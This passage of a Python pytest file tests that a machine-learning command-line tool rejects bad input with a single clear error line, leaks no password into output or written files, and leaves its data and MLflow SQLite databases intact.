    base = tmp_path_factory.mktemp("bad-input")
    cases = _selected(request.session)
    champions = _champion_store(base) if any(c.champions for c in cases) else None
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = dict(zip([c.id for c in cases], pool.map(lambda c: _run(c, base / c.id, champions), cases)))
    assert _digest(ROOT / "data") == repo_data, "a bad-input case changed the shipped data/"
    return results


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=[pytest.mark.slow] if c.slow else [])
                                  for c in CASES])
def test_bad_input_gives_one_clear_error(case: Case, outcomes):
    out = outcomes[case.id]
    err = out.stderr
    assert out.code == EXIT_ERROR, f"exit {out.code}:\n{err}"
    assert "Traceback" not in err, err
    led = [ln for ln in err.splitlines() if ln.startswith("error:")]
    assert len(led) == 1, err
    message = err[err.index("error:"):]
    # One readable line; only a file with several bad rows lists them, one per line, under it.
    lines = message.strip().splitlines()
    assert len(lines) == 1 or re.search(r": \d+ problem\(s\) found$", lines[0]), message
    for needle in case.expect:
        assert needle in message, f"{needle!r} not in:\n{message}"
    # No password reaches the screen or any file the command wrote.
    assert SECRET not in err
    for path in out.tmp.rglob("*"):
        if path.is_file() and path.suffix in {".yaml", ".log", ".txt", ".json", ".md"}:
            assert SECRET not in path.read_text(errors="replace"), path
    # Nothing half-written: the data copy is byte-identical, every MLflow database still opens.
    if out.data_before:
        assert _digest(out.tmp / "data") == out.data_before
    for db in out.tmp.rglob("mlflow.db"):
        with sqlite3.connect(db) as con:
            assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    if case.check:
        case.check(out)


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=[pytest.mark.slow] if c.slow else [])
                                  for c in ANSWERS])
def test_once_misread_input_gives_the_right_answer(case: Case, outcomes):
    out = outcomes[case.id]
    assert out.code == 0, f"exit {out.code}:\n{out.stderr}"
    assert "Traceback" not in out.stderr and "error:" not in out.stderr, out.stderr
    for db in out.tmp.rglob("mlflow.db"):
        with sqlite3.connect(db) as con:
            assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    case.check(out)


def test_corpus_is_large_and_covers_every_kind():
    assert len(CASES) >= 30
    commands = {c.argv[0] for c in CASES}
    assert {"train", "screen", "promote", "analyze", "compare", "nacarbon.db"} <= commands
